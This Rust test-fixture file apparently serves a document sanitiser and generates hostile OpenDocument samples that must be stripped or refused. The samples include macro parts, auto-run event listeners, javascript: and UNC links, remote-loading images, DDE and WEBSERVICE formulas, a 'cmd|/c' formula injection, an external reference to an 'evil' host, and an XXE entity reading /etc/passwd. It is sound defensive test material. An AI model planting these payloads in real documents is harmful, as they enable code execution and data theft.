//! OpenDocument files, made here with what must go out of them.

use crate::samples::{HARM, RawEntry, entry, zip};

pub(crate) const TEXT: &str = "application/vnd.oasis.opendocument.text";
const SHEET: &str = "application/vnd.oasis.opendocument.spreadsheet";
const CHART: &str = "application/vnd.oasis.opendocument.chart";

const SPACES: &str = "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
    xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" \
    xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" \
    xmlns:presentation=\"urn:oasis:names:tc:opendocument:xmlns:presentation:1.0\" xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\" \
    xmlns:chart=\"urn:oasis:names:tc:opendocument:xmlns:chart:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";

/// The content of a document with this body, in the element that holds its kind.
pub(crate) fn content(holder: &str, body: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content {SPACES} office:version=\"1.3\"><office:scripts/>\
         <office:body><office:{holder}>{body}</office:{holder}></office:body></office:document-content>"
    )
    .into_bytes()
}

/// A package of this type, with its parts and what its manifest says of their types.
pub(crate) fn package(mimetype: &str, parts: &[(&str, &str, &[u8])], more: &str) -> Vec<u8> {
    let rows = parts.iter().map(|(name, kind, _)| {
        format!("<manifest:file-entry manifest:full-path=\"{name}\" manifest:media-type=\"{kind}\"/>")
    });
    let manifest = format!(
        "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">\
         <manifest:file-entry manifest:full-path=\"/\" manifest:version=\"1.3\" manifest:media-type=\"{mimetype}\"/>{}{more}</manifest:manifest>",
        rows.collect::<String>()
    );
    let mut entries: Vec<RawEntry<'_>> = vec![entry("mimetype", mimetype.as_bytes())];
    // Folders have a type and no bytes.
    entries
        .extend(parts.iter().filter(|part| !part.0.ends_with('/')).map(|(name, _, data)| entry(name, data)));
    entries.push(entry("META-INF/manifest.xml", manifest.as_bytes()));
    zip(&entries)
}

/// A text document with this body and more parts.
pub(crate) fn text(body: &str, more: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let content = content("text", &format!("<text:p>金沢市の案内 &amp; 地図</text:p>{body}"));
    let mut parts: Vec<(&str, &str, &[u8])> = vec![("content.xml", "text/xml", &content)];
    parts.extend(more);
    package(TEXT, &parts, "")
}

/// A table with one cell of this formula, and its value.
pub(crate) fn sheet(formula: &str) -> Vec<u8> {
    let formula = formula.replace('"', "&quot;");
    let body = format!(
        "<table:table table:name=\"表\"><table:table-row><table:table-cell table:formula=\"{formula}\" office:value-type=\"float\" \
         office:value=\"42\"><text:p>42</text:p></table:table-cell></table:table-row></table:table>"
    );
    package(SHEET, &[("content.xml", "text/xml", &content("spreadsheet", &body))], "")
}

/// A text document with a chart in it.
pub(crate) fn with_chart() -> Vec<u8> {
    let body = "<text:p><draw:frame><draw:object xlink:href=\"./Object 1\"/><draw:image xlink:href=\"./ObjectReplacements/Object 1\"/></draw:frame></text:p>";
    let chart = content(
        "chart",
        "<chart:chart xlink:href=\"..\" chart:class=\"chart:bar\"><chart:plot-area/></chart:chart>",
    );
    text(
        body,
        &[
            ("Object 1/", CHART, b""),
            ("Object 1/content.xml", "text/xml", &chart),
            ("ObjectReplacements/Object 1", "", b"VCLMTF"),
        ],
    )
}

/// Hostile documents: a name, the file, whether it must be refused whole.
pub(crate) fn all() -> Vec<(String, Vec<u8>, bool)> {
    let harm = std::str::from_utf8(HARM).unwrap();
    let mut samples: Vec<(String, Vec<u8>, bool)> = Vec::new();
    let mut add = |name: &str, bytes, refused| samples.push((format!("odf: {name}"), bytes, refused));
    for part in [
        "Basic/Standard/Module1.xml",
        "Scripts/python/x.py",
        "Dialogs/Standard/D.xml",
        "META-INF/macrosignatures.xml",
        "META-INF/documentsignatures.xml",
        "Configurations2/toolbar/x.xml",
        "Fonts/x.ttf",
        "Media/x.mp4",
        "Pictures/not-shown.png",
        "Thumbnails/thumbnail.png",
        "x.exe",
        "Content.xml.bak",
        "Object 1/content.xml",
    ] {
        add(part, text("", &[(part, "text/xml", HARM)]), false);
    }
    for element in [
        "<office:scripts><office:script script:language=\"ooo:Basic\">{}</office:script></office:scripts>",
        "<office:event-listeners><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:{}\"/></office:event-listeners>",
        "<presentation:event-listener presentation:action=\"execute\" xlink:href=\"file:///{}\"/>",
        "<text:script xlink:href=\"{}\">{}</text:script>",
        "<text:p><text:execute-macro text:name=\"{}\">x</text:execute-macro></text:p>",
        "<text:p><draw:a xlink:href=\"vnd.sun.star.script:{}\">x</draw:a><text:a xlink:href=\"javascript:{}\">x</text:a></text:p>",
        "<text:p><text:a xlink:href=\"file:///{}\">x</text:a><text:a xlink:href=\"\\\\{}\\x\">x</text:a></text:p>",
        "<text:p><text:a xlink:href=\"macro:///{}\">x</text:a><text:a xlink:href=\"../{}\">x</text:a></text:p>",
        "<draw:frame><draw:image xlink:href=\"http://{}/x.png\" xlink:actuate=\"onLoad\"/></draw:frame>",
        "<draw:frame><draw:image xlink:href=\"file:///{}/x.png\"/></draw:frame>",
        "<draw:frame><draw:image xlink:href=\"//{}/x.png\"/></draw:frame>",
        "<draw:frame><draw:image xlink:href=\"../../{}.png\"/></draw:frame>",
        "<draw:frame><draw:image><office:binary-data>{}</office:binary-data></draw:image></draw:frame>",
        "<draw:frame><draw:object xlink:href=\"./{}\"/></draw:frame>",
        "<draw:frame><draw:object><office:document>{}</office:document></draw:object></draw:frame>",
        "<draw:frame><draw:object-ole xlink:href=\"./{}\"/></draw:frame>",
        "<draw:frame><draw:plugin xlink:href=\"./{}\"/></draw:frame>",
        "<draw:frame><draw:applet xlink:href=\"./{}\"/></draw:frame>",
        "<draw:frame><draw:floating-frame xlink:href=\"http://{}\"/></draw:frame>",
        "<text:section text:name=\"a\"><text:section-source xlink:href=\"http://{}\"/></text:section>",
        "<text:section text:name=\"a\"><office:dde-source office:dde-application=\"{}\"/></text:section>",
        "<text:dde-connection-decls><text:dde-connection-decl office:dde-application=\"{}\"/></text:dde-connection-decls>",
        "<table:table><table:table-source xlink:href=\"http://{}\"/></table:table>",
        "<table:dde-links><table:dde-link><office:dde-source office:dde-topic=\"{}\"/></table:dde-link></table:dde-links>",
        "<office:forms><form:form form:command=\"{}\" xlink:href=\"http://{}\"/></office:forms>",
        "<tomorrow xlink:href=\"http://{}\"/>",
        "<text:p xml:base=\"http://{}/\"/>",
        "<text:p script:macro-name=\"{}\"/>",
        "<table:named-range table:name=\"a\" table:cell-range-address=\"'file:///{}'#$a.$A$1\"/>",
        "<table:named-range table:name=\"a\" table:base-cell-address=\"file:///{}#$a.$A$1\" table:cell-range-address=\"$a.A1\"/>",
        "<table:database-range table:target-range-address=\"'file:///{}'#$a.A1:.B2\"/>",
        "<table:filter table:condition-source-range-address=\"'{}'#$a.A1:.B2\"/>",
        "<table:table table:name=\"a\" table:print-ranges=\"$a.A1 'file:///{}'#$a.A1\"/>",
        "<table:shapes><draw:frame table:end-cell-address=\"'http://{}/x.ods'#a.A1\"/></table:shapes>",
        "<table:source-cell-range table:cell-range-address=\"'http://{}'#$a.A1\"/>",
        "<draw:frame><draw:g draw:notify-on-update-of-ranges=\"'http://{}'#$a.A1\"/></draw:frame>",
        "<chart:series chart:values-cell-range-address=\"'http://{}'#$a.A1\" chart:label-cell-address=\"'{}'#$a.A1\"/>",
        "<form:listbox form:linked-cell=\"'http://{}'#$a.A1\" form:source-cell-range=\"'http://{}'#$a.A1\"/>",
        "<calcext:formatting-entry calcext:value=\"WEBSERVICE(&quot;http://{}&quot;)\" calcext:type=\"formula\"/>",
        "<text:p><field:fieldmark><field:param field:name=\"vnd.oasis.opendocument.field.code\" field:value=\"DDEAUTO {}\"/></field:fieldmark></text:p>",
        "<config:config-item config:name=\"ColorTableURL\" config:type=\"string\">http://{}/x.soc</config:config-item>",
        "<text:p><text:a xlink:href=\"#file:///{}\">x</text:a><text:a xlink:href=\"#'\\\\{}\\x'\">x</text:a></text:p>",
        "<table:named-expression table:name=\"a\" table:expression=\"of:=DDE(&quot;{}&quot;)\"/>",
    ] {
        add(element, text(&element.replace("{}", harm), &[]), false);
    }
    for formula in [
        format!("of:=DDE(\"soffice\";\"{harm}\";\"a\")"),
        format!("of:=['file:///{harm}'#$Sheet1.A1]"),
        format!("of:=WEBSERVICE(\"http://{harm}\")"),
        format!("msoxl:=cmd|'/c {harm}'!A0"),
        format!("of:=DDE (\"soffice\";\"{harm}\";\"a\")"),
        format!("of:=COM.MICROSOFT.WEBSERVICE (\"http://{harm}\")"),
        format!("of:=IF([$'a\"b'.B1]=0;WEBSERVICE(\"http://{harm}\");1)"),
        format!("of:='\\\\evil\\[{harm}.xlsx]S'!A1"),
    ] {
        add(&formula, sheet(&formula), false);
    }
    let encrypted =
        "<manifest:file-entry manifest:full-path=\"x\"><manifest:encryption-data/></manifest:file-entry>";
    let body = content("text", harm);
    add("a password", package(TEXT, &[("content.xml", "text/xml", &body)], encrypted), true);
    add(
        "a database",
        package("application/vnd.oasis.opendocument.base", &[("content.xml", "", &body)], ""),
        true,
    );
    add("no content", package(TEXT, &[("Basic/x.xml", "text/xml", HARM)], ""), true);
    let dtd = b"<!DOCTYPE x [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><x>&b;</x>";
    add("a DTD", package(TEXT, &[("content.xml", "text/xml", dtd)], ""), true);
    add("a DTD in styles", text("", &[("styles.xml", "text/xml", dtd)]), true);
    let deep = "<x>".repeat(100_000);
    add("deep XML", package(TEXT, &[("content.xml", "text/xml", deep.as_bytes())], ""), true);
    let flat = format!(
        "<?xml version=\"1.0\"?><office:document {SPACES} office:mimetype=\"{TEXT}\"><office:scripts>{harm}</office:scripts></office:document>"
    );
    add("in one XML file", flat.into_bytes(), true);
    samples
}
